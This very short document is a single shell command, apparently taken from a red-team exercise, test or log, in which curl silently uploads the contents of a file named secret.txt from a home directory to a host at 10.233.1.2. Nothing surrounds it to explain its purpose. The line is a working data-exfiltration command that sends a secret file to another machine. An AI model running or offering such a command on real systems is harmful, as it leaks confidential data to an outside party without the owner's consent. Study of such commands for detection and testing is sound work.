curl -s -m 3 --data-binary @/srv/rt/s/d1/home/secret.txt 10.233.1.2/U09
